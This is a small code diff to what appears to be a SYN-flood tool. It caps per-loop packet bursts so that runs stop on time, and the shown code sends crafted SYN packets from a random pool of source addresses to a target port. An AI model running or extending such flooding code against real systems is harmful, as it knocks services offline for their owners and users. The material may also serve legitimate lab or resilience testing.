@@ -71,6 +71,7 @@ TTL = 64
 WINDOW = 64240
 TIMELINE_PERIOD_S = 0.5
 IDLE_SLEEP_S = 0.0005
+BURST_PACKETS = 256  # packets sent between two checks of the time bound
 IPPROTO_TCP = 6
 TCP_SYN = 0x02
 
@@ -231,7 +232,9 @@ def run_flood(target: str, port: int, pool: Sequence[str], rate_pps: float, dura
             if stats.packets >= due:
                 time.sleep(IDLE_SLEEP_S)
                 continue
-            for _ in range(due - stats.packets):
+            # A bounded burst: behind schedule (a loaded CPU) the backlog would otherwise grow
+            # from burst to burst and the last one would run past --duration-s.
+            for _ in range(min(due - stats.packets, BURST_PACKETS)):
                 src = pool[rng.randrange(len(pool))]
                 used.add(src)
                 packet = syn_packet(src, target, rng.randrange(1024, 65536), port,
